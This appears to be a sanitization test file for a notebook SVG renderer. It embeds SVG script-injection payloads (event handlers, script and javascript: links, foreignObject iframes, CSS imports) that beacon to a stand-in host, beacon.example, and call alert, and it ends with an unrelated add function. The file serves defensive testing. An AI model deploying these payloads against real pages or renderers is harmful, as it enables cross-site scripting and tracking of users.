# tries: to run scripts by a picture: SVG with script, handlers, animation, foreign objects, outside images
# must: show a picture that does nothing and loads nothing
# score: 10
from IPython.display import SVG, display

CALL = "fetch('http://beacon.example/svg');top.owned=self.owned=1;alert(1)"
SOURCE = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{CALL}">
<script>{CALL}</script><script xlink:href="http://beacon.example/svg.js"/>
<image xlink:href="http://beacon.example/svg.png" width="9" height="9" onerror="{CALL}"/>
<use xlink:href="http://beacon.example/svg.svg#x"/><animate onbegin="{CALL}" attributeName="x" dur="1s"/>
<set attributeName="href" to="javascript:{CALL}"/><a xlink:href="javascript:{CALL}"><text y="9">3</text></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://beacon.example/f"/></body></foreignObject>
<style>@import url(http://beacon.example/svg.css); text {{ fill: url(http://beacon.example/fill) }}</style></svg>"""
display(SVG(SOURCE))
display({"image/svg+xml": f'"><script>{CALL}</script>{SOURCE}'}, raw=True)
display({"image/svg+xml": ["<svg onload=", f'"{CALL}"', "></svg>"]}, raw=True)


def add(a, b):
    return a + b
